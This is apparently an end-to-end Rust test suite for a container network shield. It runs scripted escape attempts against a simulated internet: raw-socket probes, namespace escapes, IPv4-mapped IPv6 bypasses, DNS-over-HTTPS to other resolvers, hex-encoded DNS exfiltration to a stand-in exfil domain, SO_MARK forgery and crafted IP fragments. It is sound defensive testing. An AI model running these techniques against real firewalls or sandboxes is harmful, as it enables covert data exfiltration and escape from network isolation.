//! End-to-end: escape attempts from inside a shielded container, each with a control.
//!
//! Every test runs the attack in a shielded container (real rootless podman, real packets
//! into the fake internet of tests/common/e2e/world.rs) and shows it fails, and runs the same
//! technique where it can work (a plain container, or an allowed target) to show that the
//! technique itself does something observable there, so each test could fail. Needs root and
//! scripts/podman-env.sh (see docs/testing-e2e.md, "Soak and escape tests").

#[macro_use]
mod common;
use common::e2e;

use e2e::world::*;
use e2e::{dns_config, probe_script, Probes, IMAGE, RAN};

/// `podman run --rm EXTRA... IMAGE sh -c SCRIPT` as the test user, no shield.
fn plain(h: &e2e::E2e, name: &str, extra: &[&str], script: &str) -> e2e::cmd::Out {
    let mut args: Vec<&str> = vec!["run", "--rm", "--name", name];
    args.extend_from_slice(extra);
    args.extend_from_slice(&[IMAGE, "sh", "-c", script]);
    h.podman(&args)
}

/// The text after `TAG ` on the workload's `TAG ...` line.
#[track_caller]
fn line<'a>(out: &'a e2e::cmd::Out, tag: &str) -> &'a str {
    let prefix = format!("{tag} ");
    out.stdout
        .lines()
        .find_map(|l| l.strip_prefix(&prefix))
        .unwrap_or_else(|| panic!("no {tag} line in the output: {out}"))
}

/// The `CapEff` bits printed by `grep ^CapEff: /proc/self/status`.
#[track_caller]
fn cap_eff(out: &e2e::cmd::Out) -> u64 {
    let hex = out
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("CapEff:"))
        .unwrap_or_else(|| panic!("no CapEff line: {out}"));
    u64::from_str_radix(hex.trim(), 16).unwrap()
}

const NET_RAW: u64 = 1 << 13;

// ---------------------------------------------------------------------------------------
// 1. Raw and packet sockets
// ---------------------------------------------------------------------------------------

/// The raw-socket tools of busybox: `arping` (an AF_PACKET socket), `traceroute` (a raw
/// ICMP socket to read the answers) and `ping` (raw, or an ICMP datagram socket).
fn raw_script() -> String {
    format!(
        "echo {RAN}\n\
         grep '^CapEff:' /proc/self/status\n\
         o=$(timeout 5 arping -c 1 -w 2 -I tap0 {BLOCKED4} 2>&1); echo \"ARPING rc=$? $(echo $o)\"\n\
         o=$(timeout 5 traceroute -n -m 1 -w 1 -q 1 {BLOCKED4} 2>&1); echo \"TRACE rc=$? $(echo $o)\"\n\
         o=$(timeout 5 ping -c 2 -W 1 {BLOCKED4} 2>&1); echo \"PING rc=$? $(echo $o)\"\n"
    )
}

#[test]
fn raw_and_packet_sockets_are_refused_without_cap_net_raw() {
    let mut h = e2e!();
    let name = h.name("esc-raw");
    let out = h.run_script(&name, "e2e-basic", &raw_script()).expect_ok();
    assert_eq!(
        cap_eff(&out) & NET_RAW,
        0,
        "CAP_NET_RAW is effective: {out}"
    );
    eprintln!("escape: shielded raw sockets:\n{}", out.stdout);
    for tag in ["ARPING", "TRACE"] {
        let l = line(&out, tag);
        assert!(
            !l.starts_with("rc=0") && l.contains("not permitted"),
            "{tag}: a raw or packet socket was not refused with EPERM: {out}"
        );
    }
    // ping may fall back to an ICMP datagram socket (podman's ping_group_range): it must not
    // get an answer from the blocked host either way.
    let ping = line(&out, "PING");
    assert!(
        !ping.starts_with("rc=0") && !ping.contains("bytes from"),
        "ping reached the blocked host: {out}"
    );
    assert!(
        ping.contains("permission denied") || ping.contains("0 packets received"),
        "ping neither refused its socket nor failed to get answers: {out}"
    );

    // Control: with CAP_NET_RAW and no shield the same tools get their sockets and send.
    let control = h.name("esc-raw-control");
    let out = plain(&h, &control, &["--cap-add", "NET_RAW"], &raw_script()).expect_ok();
    assert_ne!(
        cap_eff(&out) & NET_RAW,
        0,
        "control lacks CAP_NET_RAW: {out}"
    );
    eprintln!("escape: unshielded raw sockets:\n{}", out.stdout);
    let arping = line(&out, "ARPING");
    assert!(
        arping.contains("Sent 1 probe") && !arping.contains("not permitted"),
        "control: arping did not send on a packet socket: {out}"
    );
    let trace = line(&out, "TRACE");
    assert!(
        trace.contains(&format!("traceroute to {BLOCKED4}")) && !trace.contains("not permitted"),
        "control: traceroute did not open its raw socket: {out}"
    );
    let ping = line(&out, "PING");
    assert!(
        ping.contains("packets transmitted") && !ping.contains("permission denied"),
        "control: ping did not send on its raw socket: {out}"
    );
}

// ---------------------------------------------------------------------------------------
// 2. A new user + network namespace
// ---------------------------------------------------------------------------------------

#[test]
fn a_new_user_and_network_namespace_has_no_way_out() {
    let mut h = e2e!();
    let name = h.name("esc-userns");
    let inner = format!(
        "readlink /proc/self/ns/net; ip -o link | cut -d: -f2; \
         for t in {BLOCKED4} {ALLOWED4}; do o=$(timeout 5 nc $t 80 </dev/null 2>&1); echo NC-$t rc=$? $o; done"
    );
    let script = format!(
        "echo {RAN}\n\
         echo \"OUTER $(readlink /proc/self/ns/net)\"\n\
         o=$(timeout 5 unshare -n true 2>&1); echo \"NETONLY rc=$? $(echo $o)\"\n\
         o=$(timeout 20 unshare -Urn sh -c '{inner}' 2>&1); echo \"USERNS rc=$? $(echo $o)\"\n\
         o=$(timeout 5 nc {ALLOWED4} 80 </dev/null 2>&1); echo \"OUTSIDE rc=$? $(echo $o)\"\n"
    );
    let mark = h.world.mark();
    let out = h.run_script(&name, "e2e-basic", &script).expect_ok();
    // Without CAP_SYS_ADMIN a bare network namespace is refused.
    assert!(
        !line(&out, "NETONLY").starts_with("rc=0"),
        "unshare -n worked without a user namespace: {out}"
    );
    eprintln!("escape: namespaces:\n{}", out.stdout);
    let userns = line(&out, "USERNS");
    let outer = line(&out, "OUTER");
    if userns.starts_with("rc=0") {
        // It worked: a different network namespace with nothing but lo, and no way out.
        assert!(!userns.contains(outer), "same netns as outside: {out}");
        assert!(userns.contains(" lo ") && !userns.contains("tap0"), "{out}");
        for host in [BLOCKED4, ALLOWED4] {
            let nc = format!("NC-{host} rc=");
            assert!(
                userns.contains(&nc) && !userns.contains(&format!("NC-{host} rc=0")),
                "connect from the new namespace to {host} succeeded: {out}"
            );
        }
        assert!(
            !userns.contains("terok-e2e-world"),
            "a banner came through: {out}"
        );
    } else {
        eprintln!("escape: unshare -Urn refused in the container: {userns}");
    }
    assert!(
        !h.world.saw_since(mark, BLOCKED4, 80),
        "the world saw the blocked host"
    );
    // Control: the same nc from the container's own namespace reaches the allowed host, so
    // it is the new namespace, not the tool, that has no way out.
    let want = banner(ALLOWED4.parse().unwrap(), 80);
    assert!(
        line(&out, "OUTSIDE").contains(want.trim()),
        "control: the allowed host was not reached from the container's netns: {out}"
    );
    assert!(h.world.saw_since(mark, ALLOWED4, 80));
}

// ---------------------------------------------------------------------------------------
// 3. IPv4-mapped and IPv4-compatible IPv6 destinations
// ---------------------------------------------------------------------------------------

const MAPPED_BLOCKED: &str = "::ffff:198.51.100.20";
const MAPPED_ALLOWED: &str = "::ffff:198.51.100.10";
const COMPAT_BLOCKED: &str = "::198.51.100.20";

#[test]
fn ipv4_mapped_and_compatible_ipv6_destinations_are_refused() {
    let mut h = e2e!();
    let name = h.name("esc-mapped");
    let targets = [
        (MAPPED_BLOCKED, 80),
        (MAPPED_ALLOWED, 80),
        (COMPAT_BLOCKED, 80),
    ];
    let mark = h.world.mark();
    let out = h
        .run_script(&name, "e2e-basic", &probe_script(&targets))
        .expect_ok();
    eprintln!("escape: shielded mapped/compatible:\n{}", out.stdout);
    let p = Probes::of(&out, &h.world, mark);
    for host in [MAPPED_BLOCKED, COMPAT_BLOCKED] {
        let probe = p.all.iter().find(|x| x.host == host).unwrap();
        assert!(
            probe.rc != 0 && probe.text.contains("refused") && probe.cs <= e2e::FAST_CS,
            "{host}: expected a fast refusal, got {probe:?}\n{out}"
        );
    }
    assert!(
        !h.world.saw_since(mark, BLOCKED4, 80),
        "a mapped or compatible address reached the blocked host"
    );
    // Control 1: the mapped form of the allowed host is reached (the kernel sends it as IPv4).
    let allowed = p.all.iter().find(|x| x.host == MAPPED_ALLOWED).unwrap();
    assert!(
        allowed.rc == 0 && allowed.text.contains("terok-e2e-world"),
        "the mapped allowed host was not reached: {allowed:?}\n{out}"
    );
    assert!(h.world.saw_since(mark, ALLOWED4, 80));

    // Control 2: without the shield the mapped form of the blocked host is reached.
    let control = h.name("esc-mapped-control");
    let mark = h.world.mark();
    let out = plain(&h, &control, &[], &probe_script(&targets)).expect_ok();
    let p = Probes::of(&out, &h.world, mark);
    let blocked = p.all.iter().find(|x| x.host == MAPPED_BLOCKED).unwrap();
    assert!(
        blocked.rc == 0 && blocked.text.contains("terok-e2e-world"),
        "control: the mapped blocked host was not reached: {blocked:?}\n{out}"
    );
    assert!(h.world.saw_since(mark, BLOCKED4, 80));
    // The compatible form is a plain IPv6 address no one routes: never reached, but not the
    // shield's fast refusal either.
    let compat = p.all.iter().find(|x| x.host == COMPAT_BLOCKED).unwrap();
    assert!(compat.rc != 0, "control: {compat:?}\n{out}");
    eprintln!("escape: unshielded {COMPAT_BLOCKED}: {compat:?}");
}

// ---------------------------------------------------------------------------------------
// 4. DNS over TCP, DoT and DoH to resolvers that are not the container's
// ---------------------------------------------------------------------------------------

#[test]
fn dns_over_tcp_dot_and_doh_to_other_resolvers_are_refused() {
    let mut h = e2e!();
    h.set_config(&dns_config("builtin", ""));
    h.profile("e2e-esc-dns", "svc.e2e.test\n");
    let name = h.name("esc-doh");
    let targets = [
        (OTHER_DNS4, 53),
        (OTHER_DNS4, 853),
        (OTHER_DNS4, 443),
        (DNS4, 53),
        (DNS4, 443),
        (DNS6, 443),
    ];
    let mut script = probe_script(&targets);
    script.push_str(&format!(
        "echo \"RESOLVER $(timeout 5 nslookup svc.e2e.test 2>&1 | grep -c {NAMED4})\"\n"
    ));
    let mark = h.world.mark();
    let out = h.run_script(&name, "e2e-esc-dns", &script).expect_ok();
    let p = Probes::of(&out, &h.world, mark);
    for (host, port) in targets {
        p.refused_fast(host, port);
    }
    // Control 1: the allowed resolver path (resolv.conf, the container's resolver) answers.
    assert!(
        out.stdout.contains("RESOLVER 1"),
        "control: the container's own resolver did not answer: {out}"
    );
    assert!(h.world.dns_queries().iter().any(|q| q == "svc.e2e.test"));

    // Control 2: without the shield the same connections reach the world.
    let control = h.name("esc-doh-control");
    let mark = h.world.mark();
    let out = plain(&h, &control, &[], &probe_script(&targets)).expect_ok();
    let p = Probes::of(&out, &h.world, mark);
    for (host, port) in [(OTHER_DNS4, 443), (DNS4, 443), (DNS6, 443)] {
        p.reached(host, port);
    }
    for (host, port) in [(OTHER_DNS4, 53), (DNS4, 53)] {
        assert!(
            h.world.saw_since(mark, host, port),
            "control: the world saw no TCP connection to {host}:{port}\n{out}"
        );
    }
}

// ---------------------------------------------------------------------------------------
// 5. Data in subdomains of a wildcard entry: the known covert channel, measured
// ---------------------------------------------------------------------------------------

#[test]
fn data_in_subdomains_of_a_wildcard_reaches_upstream_the_known_limit() {
    let mut h = e2e!();
    h.set_config(&dns_config("builtin", ""));
    h.profile("e2e-esc-wild", "*.e2e.test\n");
    let name = h.name("esc-covert");
    // "secret-1" and "secret-2" in hex, as a workload would smuggle them.
    let inside = "7365637265742d31.x.e2e.test";
    let outside = "7365637265742d32.x.exfil.test";
    let script = format!(
        "echo {RAN}\n\
         timeout 5 nslookup {inside} >/dev/null 2>&1; echo \"INSIDE rc=$?\"\n\
         timeout 5 nslookup {outside} >/dev/null 2>&1; echo \"OUTSIDE rc=$?\"\n"
    );
    let out = h.run_script(&name, "e2e-esc-wild", &script).expect_ok();
    assert!(out.stdout.contains(RAN), "{out}");
    let asked = h.world.dns_queries();
    // The limit: a name under the wildcard goes upstream with its data (NXDOMAIN back).
    assert!(
        asked.iter().any(|q| q == inside),
        "the data-carrying name under the wildcard did not reach upstream: {asked:?}\n{out}"
    );
    // What the allowlist still holds: a name outside it never leaves the container.
    assert!(
        !asked.iter().any(|q| q.contains("7365637265742d32")),
        "a name outside the allowlist reached upstream: {asked:?}"
    );
}

// ---------------------------------------------------------------------------------------
// 7. The state bundle is out of reach
// ---------------------------------------------------------------------------------------

fn bundle_search() -> String {
    format!(
        "echo {RAN}\n\
         find / \\( -path /proc -o -path /sys -o -path /dev \\) -prune -o \\( -name state.json -o -name runtime.json \
         -o -name 'audit.jsonl*' -o -name hook-error.log -o -name learned.jsonl \\) -print 2>/dev/null | sed 's/^/FOUND /'\n\
         grep terok /proc/self/mountinfo | sed 's/^/MOUNT /'\n\
         echo SEARCHED\n"
    )
}

#[test]
fn the_state_bundle_is_not_visible_inside_the_container() {
    let mut h = e2e!();
    let name = h.name("esc-bundle");
    let out = h
        .run_script(&name, "e2e-basic", &bundle_search())
        .expect_ok();
    assert!(out.stdout.contains("SEARCHED"), "{out}");
    eprintln!("escape: bundle search:\n{}", out.stdout);
    let found: Vec<&str> = out
        .stdout
        .lines()
        .filter(|l| l.starts_with("FOUND "))
        .collect();
    assert!(
        found.is_empty(),
        "bundle files visible inside: {found:?}\n{out}"
    );
    let mounts: Vec<&str> = out
        .stdout
        .lines()
        .filter(|l| l.starts_with("MOUNT "))
        .collect();
    assert!(
        mounts.is_empty(),
        "a terok path is mounted into the container: {mounts:?}\n{out}"
    );
    let bundle = h.bundle_dir(&name).display().to_string();
    assert!(
        h.bundle_dir(&name).join("state.json").exists(),
        "no bundle on the host"
    );

    // Control: the same search finds the bundle when it is mounted (so it would see a leak).
    let control = h.name("esc-bundle-control");
    let volume = format!("{bundle}:/mnt/leak:ro");
    let out = plain(&h, &control, &["-v", &volume], &bundle_search()).expect_ok();
    assert!(
        out.stdout.contains("FOUND /mnt/leak/state.json"),
        "control: the search did not find a mounted bundle: {out}"
    );
}

// ---------------------------------------------------------------------------------------
// 6. SO_MARK forgery of the resolver's mark
// ---------------------------------------------------------------------------------------

/// Python (run in the container's user + network namespaces): set the builtin resolver's
/// SO_MARK on a UDP socket and ask the world's other DNS server for NAME with it. Bounded by
/// a 2 s receive timeout. Prints `CAPEFF hex`, `MARK ok|errno N` and `ANSWER n|SEND error`.
fn forge_script(name: &str) -> String {
    let mark = terok_shield::core::policy::RESOLVER_MARK;
    let labels: String = name
        .split('.')
        .map(|l| format!("bytes([{}]) + b\"{l}\" + ", l.len()))
        .collect();
    format!(
        "import socket, struct\n\
         print('CAPEFF', open('/proc/self/status').read().split('CapEff:')[1].split()[0])\n\
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
         try:\n    s.setsockopt(socket.SOL_SOCKET, 36, {mark}); print('MARK ok')\n\
         except OSError as e:\n    print('MARK errno', e.errno)\n\
         q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + {labels}b'\\0' + struct.pack('>HH', 1, 1)\n\
         s.settimeout(2)\n\
         try:\n    s.sendto(q, ('{OTHER_DNS4}', 53)); print('ANSWER', len(s.recv(512)))\n\
         except OSError as e:\n    print('SEND', e)\n"
    )
}

/// `nsenter` into the user and network namespaces of `pid` (as uid 0 there), optionally
/// through `setpriv` dropping CAP_NET_ADMIN and CAP_NET_RAW as the shield drops them from
/// the workload, then run `script` with the system python3.
fn in_container_ns(pid: &str, drop_caps: bool, script: &str) -> String {
    let mut args: Vec<&str> = vec!["10", "nsenter", "-t", pid, "-U", "-n", "--"];
    if drop_caps {
        args.extend_from_slice(&[
            "setpriv",
            "--bounding-set=-net_admin,-net_raw",
            "--inh-caps=-net_admin,-net_raw",
            "--",
        ]);
    }
    args.extend_from_slice(&["/usr/bin/python3", "-c", script]);
    let out = std::process::Command::new("timeout")
        .args(&args)
        .current_dir("/")
        .output()
        .expect("nsenter runs");
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

#[test]
fn the_resolver_mark_cannot_be_forged_without_cap_net_admin() {
    const NET_ADMIN: u64 = 1 << 12;
    let mut h = e2e!();
    h.set_config(&dns_config("builtin", ""));
    h.profile("e2e-esc-mark", "svc.e2e.test\n");
    let name = h.name("esc-mark");
    h.run_detached(&name, "e2e-esc-mark").expect_ok();
    let pid = h
        .podman(&["inspect", "-f", "{{.State.Pid}}", &name])
        .expect_ok()
        .stdout
        .trim()
        .to_string();

    // The attack, with the workload's lack of CAP_NET_ADMIN: no mark, no way to upstream DNS.
    let out = in_container_ns(&pid, true, &forge_script("forge-a.e2e.test"));
    let capeff = out
        .lines()
        .find_map(|l| l.strip_prefix("CAPEFF "))
        .and_then(|x| u64::from_str_radix(x.trim(), 16).ok())
        .unwrap_or_else(|| panic!("the forging client did not run: {out}"));
    assert_eq!(capeff & NET_ADMIN, 0, "CAP_NET_ADMIN left: {out}");
    assert!(out.contains("MARK errno 1"), "SO_MARK was not EPERM: {out}");
    assert!(
        !out.contains("ANSWER"),
        "an unmarked query got an answer: {out}"
    );
    let log = h.world.dns_log();
    assert!(
        !log.iter().any(|q| q.name == "forge-a.e2e.test"),
        "the unmarked query reached the world: {log:?}"
    );

    // Control: with CAP_NET_ADMIN in the container's user namespace (as the shield's own
    // resolver has), the same mark is accepted and the query goes through the firewall.
    let out = in_container_ns(&pid, false, &forge_script("forge-b.e2e.test"));
    assert!(out.contains("MARK ok"), "control: SO_MARK failed: {out}");
    assert!(out.contains("ANSWER"), "control: no answer: {out}");
    let log = h.world.dns_log();
    assert!(
        log.iter()
            .any(|q| q.name == "forge-b.e2e.test" && q.server.ip().to_string() == OTHER_DNS4),
        "control: the marked query did not reach the world: {log:?}"
    );
    assert_eq!(h.shield_state(&name), "up");
}

/// Python, for the process that plays the workload through [`in_container_ns`]: each line
/// of `plan` is `udp HOST SIZE` (one UDP datagram of SIZE bytes to HOST:9, DF never set) or
/// `icmp HOST SIZE` (one echo request with SIZE bytes of 0x5a from a connected ICMP datagram
/// socket, the "ping socket" podman's `ping_group_range` opens to the container's root, then
/// a reply or error awaited for at most 2 s) or `nd HOST 0` (an ICMPv6 neighbour
/// solicitation, a type the ruleset lets out to any address, from that same kind of socket).
/// Prints `CAPEFF hex`, then per line `UDP|ICMP|ND HOST SIZE sent|errno=N frags=N ...
/// [reply=LEN payload=same|different | reply=none(ERROR)]`, where `frags` is how many
/// fragments the container's own IP stack made meanwhile (FragCreates, IPv4 + IPv6).
fn datagram_script(plan: &[(&str, &str, usize)]) -> String {
    let plan: String = plan
        .iter()
        .map(|(kind, host, size)| format!("    ('{kind}', '{host}', {size}),\n"))
        .collect();
    format!(
        r#"import socket, struct, time
print('CAPEFF', open('/proc/self/status').read().split('CapEff:')[1].split()[0])
def frags():
    rows = [l.split() for l in open('/proc/net/snmp') if l.startswith('Ip:')]
    v4 = int(rows[1][rows[0].index('FragCreates')])
    v6 = [int(l.split()[1]) for l in open('/proc/net/snmp6') if l.startswith('Ip6FragCreates')][0]
    return v4 + v6
PLAN = [
{plan}]
for kind, host, size in PLAN:
    v6 = ':' in host
    fam = socket.AF_INET6 if v6 else socket.AF_INET
    data = b'\x5a' * size
    before = frags()
    started = time.monotonic()
    if kind == 'udp':
        s = socket.socket(fam, socket.SOCK_DGRAM)
        if v6:
            s.setsockopt(socket.IPPROTO_IPV6, 23, 0)  # IPV6_MTU_DISCOVER: IPV6_PMTUDISC_DONT
        else:
            s.setsockopt(socket.IPPROTO_IP, 10, 0)  # IP_MTU_DISCOVER: IP_PMTUDISC_DONT
        packet, to = data, (host, {UDP_SINK_PORT})
    else:
        try:
            s = socket.socket(fam, socket.SOCK_DGRAM, 58 if v6 else 1)
            s.connect((host, 0))
        except OSError as e:
            print(kind.upper(), host, size, 'socket-errno=%d' % e.errno)
            continue
        icmp_type = (135 if kind == 'nd' else 128) if v6 else 8
        packet, to = struct.pack('!BBHHH', icmp_type, 0, 0, 0, 1) + data, (host, 0)
    try:
        s.sendto(packet, to)
        result = 'sent'
    except OSError as e:
        result = 'errno=%d' % e.errno
    took = (time.monotonic() - started) * 1000
    reply = ''
    if kind == 'icmp' and result == 'sent':
        s.settimeout(2)
        try:
            r = s.recv(65535)
            reply = 'reply=%d payload=%s' % (len(r), 'same' if r[8:] == data else 'different')
        except OSError as e:
            reply = 'reply=none(errno=%s)' % e.errno
    print(kind.upper(), host, size, result, 'frags=%d' % (frags() - before), 'ms=%.1f' % took, reply)
"#
    )
}

/// The result line of `kind host size` in the output of [`datagram_script`] (without that
/// prefix).
#[track_caller]
fn sent<'a>(out: &'a str, kind: &str, host: &str, size: usize) -> &'a str {
    let prefix = format!("{} {host} {size} ", kind.to_uppercase());
    out.lines()
        .find_map(|l| l.strip_prefix(&prefix))
        .unwrap_or_else(|| panic!("no {prefix:?} line in the output: {out}"))
}

/// The `CAPEFF hex` bits printed by [`datagram_script`] and [`raw_fragments_script`].
#[track_caller]
fn python_cap_eff(out: &str) -> u64 {
    out.lines()
        .find_map(|l| l.strip_prefix("CAPEFF "))
        .and_then(|x| u64::from_str_radix(x.trim(), 16).ok())
        .unwrap_or_else(|| panic!("the client did not run: {out}"))
}

/// Wait (at most 5 s) for slirp4netns' router advertisement to give the container its IPv6
/// default route; print tap0 (its MTU).
fn tap0_ready(h: &e2e::E2e, name: &str) -> e2e::cmd::Out {
    h.exec(
        name,
        "i=0; while [ $i -lt 50 ] && ! ip -6 route | grep -q '^default'; do sleep 0.1; i=$((i+1)); done\n\
         ip -6 route | grep '^default'; ip link show tap0",
    )
    .expect_ok()
}

// ---------------------------------------------------------------------------------------
// 8. Datagrams larger than the MTU: fragments
// ---------------------------------------------------------------------------------------

/// tap0's MTU in the fragment tests (IPv6's minimum; slirp4netns' default is 65520): a
/// [`BIG`]-byte datagram leaves the container in three fragments.
const SMALL_MTU: &str = "slirp4netns:mtu=1280";
const BIG: usize = 3000;
const CAP_NET_ADMIN: u64 = 1 << 12;

#[test]
fn datagrams_larger_than_the_mtu_to_a_blocked_host_never_leave() {
    let mut h = e2e!();
    let name = h.name("esc-frag");
    h.world
        .count("to_blocked4", &format!("ip daddr {BLOCKED4}"));
    h.world
        .count("to_blocked6", &format!("ip6 daddr {BLOCKED6}"));
    h.world.count(
        "fragments_to_allowed4",
        &format!("ip daddr {ALLOWED4} ip frag-off & 0x3fff != 0"),
    );
    h.run_with(
        &name,
        "e2e-basic",
        &["-d", "--network", SMALL_MTU, IMAGE, "sleep", "600"],
    )
    .expect_ok();
    let link = tap0_ready(&h, &name);
    assert!(link.stdout.contains("mtu 1280"), "tap0 MTU: {link}");
    let pid = e2e::pid_of(&h, &name);
    e2e::count_leaving(&pid, "wire_blocked4", &format!("ip daddr {BLOCKED4}"));
    e2e::count_leaving(&pid, "wire_blocked6", &format!("ip6 daddr {BLOCKED6}"));
    e2e::count_leaving(&pid, "wire_allowed6", &format!("ip6 daddr {ALLOWED6}"));

    // The workload's side (no CAP_NET_RAW, no CAP_NET_ADMIN): big datagrams, DF off.
    let plan = [
        ("udp", BLOCKED4, BIG),
        ("udp", BLOCKED6, BIG),
        ("icmp", BLOCKED4, BIG),
        ("icmp", BLOCKED6, BIG),
        ("udp", ALLOWED4, BIG),
        ("udp", ALLOWED6, BIG),
    ];
    let out = in_container_ns(&pid, true, &datagram_script(&plan));
    eprintln!("escape: datagrams of {BIG} bytes at MTU 1280:\n{out}");
    assert_eq!(python_cap_eff(&out) & (NET_RAW | CAP_NET_ADMIN), 0, "{out}");
    // Filtered whole at the output hook, before the IP layer fragments: the send is refused
    // (EPERM) and no fragment is made.
    for (kind, host) in [("udp", BLOCKED4), ("udp", BLOCKED6), ("icmp", BLOCKED4)] {
        let r = sent(&out, kind, host, BIG);
        assert!(
            r.starts_with("errno=1 frags=0 "),
            "{kind} to {host}: expected EPERM and no fragments, got {r}\n{out}"
        );
    }
    // An ICMPv6 ping socket is not told (the kernel drops the verdict's error for it), but
    // no fragment is made and the admin-prohibited error comes back instead of a reply.
    let r = sent(&out, "icmp", BLOCKED6, BIG);
    assert!(
        r.contains(" frags=0 ") && r.contains("reply=none(errno=13)"),
        "ICMPv6 to {BLOCKED6}: expected no fragments and the admin-prohibited error, got {r}\n{out}"
    );
    for counter in ["wire_blocked4", "wire_blocked6"] {
        assert_eq!(
            e2e::packets_leaving(&pid, counter),
            0,
            "{counter}: a packet to the blocked host left the container\n{out}"
        );
    }
    for counter in ["to_blocked4", "to_blocked6"] {
        assert_eq!(
            h.world.packets(counter),
            0,
            "{counter}: the world saw a packet"
        );
    }
    let datagrams = h.world.datagrams();
    assert!(
        !datagrams
            .iter()
            .any(|d| [BLOCKED4, BLOCKED6].contains(&d.local.ip().to_string().as_str())),
        "a datagram reached the blocked host: {datagrams:?}"
    );

    // Control: the same datagrams to the allowed hosts pass the firewall and leave in three
    // fragments each. IPv4 arrives whole; libslirp 4.7 reassembles no IPv6 fragments (it
    // drops them), so for IPv6 the wire of the container is where they are seen.
    for host in [ALLOWED4, ALLOWED6] {
        let r = sent(&out, "udp", host, BIG);
        assert!(r.starts_with("sent frags=3 "), "UDP to {host}: {r}\n{out}");
    }
    assert!(
        e2e::packets_leaving(&pid, "wire_allowed6") > 0,
        "control: the datagram to {ALLOWED6} did not leave the container"
    );
    assert!(
        datagrams
            .iter()
            .any(|d| d.local.ip().to_string() == ALLOWED4 && d.len == BIG),
        "control: no {BIG}-byte datagram arrived at {ALLOWED4}: {datagrams:?}"
    );
    // slirp4netns reassembles, and the host sends on at the veth's MTU 1500: fragments again.
    assert!(
        h.world.packets("fragments_to_allowed4") > 0,
        "control: the world's fragment counter saw nothing"
    );
}

/// Python for [`in_container_ns`]: one UDP datagram of [`BIG`] bytes to HOST:9, cut by hand
/// into IPv4 fragments of 1200 bytes without DF (a raw IP_HDRINCL socket, which needs
/// CAP_NET_RAW), for each HOST. Prints `CAPEFF hex`, then `RAWFRAG HOST socket-errno=N` or
/// `RAWFRAG HOST` and the result of each fragment's send (`sent` or `errno=N`).
fn raw_fragments_script(hosts: &[&str]) -> String {
    let hosts = hosts
        .iter()
        .map(|h| format!("'{h}'"))
        .collect::<Vec<_>>()
        .join(", ");
    format!(
        r#"import socket, struct
print('CAPEFF', open('/proc/self/status').read().split('CapEff:')[1].split()[0])
for ident, host in enumerate([{hosts}], start=0x5a00):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    except OSError as e:
        print('RAWFRAG', host, 'socket-errno=%d' % e.errno)
        continue
    data = b'\x5a' * {BIG}
    udp = struct.pack('!HHHH', 40000, {UDP_SINK_PORT}, 8 + len(data), 0) + data
    results = []
    for off in range(0, len(udp), 1200):
        piece = udp[off:off + 1200]
        more = 0x2000 if off + 1200 < len(udp) else 0
        header = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(piece), ident, more | (off // 8),
                             64, 17, 0, bytes(4), socket.inet_aton(host))
        try:
            s.sendto(header + piece, (host, 0))
            results.append('sent')
        except OSError as e:
            results.append('errno=%d' % e.errno)
    print('RAWFRAG', host, ' '.join(results))
"#
    )
}

#[test]
fn crafted_fragments_need_cap_net_raw_which_no_shielded_container_gets() {
    let mut h = e2e!();
    let marker = format!("echo {RAN}; grep CapEff /proc/self/status");

    // `run` refuses the flag itself.
    let name = h.name("esc-rawfrag-run");
    let out = h.run_with(
        &name,
        "e2e-basic",
        &["--rm", "--cap-add", "NET_RAW", IMAGE, "sh", "-c", &marker],
    );
    assert_eq!(
        out.code(),
        Some(1),
        "--cap-add NET_RAW was not refused: {out}"
    );
    assert!(
        !out.stdout.contains(RAN) && out.stderr.contains("NET_RAW"),
        "{out}"
    );
    // By hand after `prepare`: podman refuses to add what the prepared flags drop, and
    // `--privileged` (which grants it anyway) meets the hook's capability check.
    let prepared = h.name("esc-rawfrag-prepared");
    let flags = h.prepare(&prepared, "e2e-basic");
    let out = h.podman_run_prepared(
        &flags,
        &["--rm", "--cap-add", "NET_RAW", IMAGE, "sh", "-c", &marker],
    );
    assert!(
        !out.ok() && !out.stdout.contains(RAN) && out.stderr.contains("CAP_NET_RAW"),
        "prepared + --cap-add NET_RAW: {out}"
    );
    h.podman(&["rm", "-f", "-t", "0", &prepared]);
    let out = h.podman_run_prepared(
        &flags,
        &["--rm", "--privileged", IMAGE, "sh", "-c", &marker],
    );
    assert!(
        !out.ok()
            && !out.stdout.contains(RAN)
            && out.stderr.contains("refusing to start the container")
            && out.stderr.contains("CAP_NET_RAW"),
        "prepared + --privileged was not refused by the hook: {out}"
    );
    h.podman(&["rm", "-f", "-t", "0", &prepared]);
    // Control: the same prepared container without those flags runs its workload.
    let out = h
        .podman_run_prepared(&flags, &["--rm", IMAGE, "sh", "-c", &marker])
        .expect_ok();
    assert!(
        out.stdout.contains(RAN),
        "control: the workload did not run: {out}"
    );

    // In a running shielded container, the workload's capabilities cannot open the socket.
    let name = h.name("esc-rawfrag");
    h.world
        .count("to_blocked4", &format!("ip daddr {BLOCKED4}"));
    h.run_detached(&name, "e2e-basic").expect_ok();
    let pid = e2e::pid_of(&h, &name);
    e2e::count_leaving(&pid, "wire_blocked4", &format!("ip daddr {BLOCKED4}"));
    let out = in_container_ns(&pid, true, &raw_fragments_script(&[BLOCKED4]));
    assert!(
        out.contains(&format!("RAWFRAG {BLOCKED4} socket-errno=1")),
        "a raw socket opened without CAP_NET_RAW: {out}"
    );
    // A holder of CAP_NET_RAW in the container's user namespace (what --privileged would
    // give the workload) sends its DF-less fragments: conntrack gathers them at the output
    // hook, so the firewall judges the whole datagram, and nothing reaches the blocked host.
    let out = in_container_ns(&pid, false, &raw_fragments_script(&[BLOCKED4, ALLOWED4]));
    eprintln!("escape: crafted fragments with CAP_NET_RAW:\n{out}");
    assert_ne!(python_cap_eff(&out) & NET_RAW, 0, "{out}");
    assert_eq!(e2e::packets_leaving(&pid, "wire_blocked4"), 0, "{out}");
    assert_eq!(h.world.packets("to_blocked4"), 0, "{out}");
    // Control: the same fragments to the allowed host arrive, reassembled.
    let datagrams = h.world.datagrams();
    assert!(
        datagrams
            .iter()
            .any(|d| d.local.ip().to_string() == ALLOWED4 && d.len == BIG),
        "control: the crafted fragments did not arrive at {ALLOWED4}: {datagrams:?}\n{out}"
    );
}

// ---------------------------------------------------------------------------------------
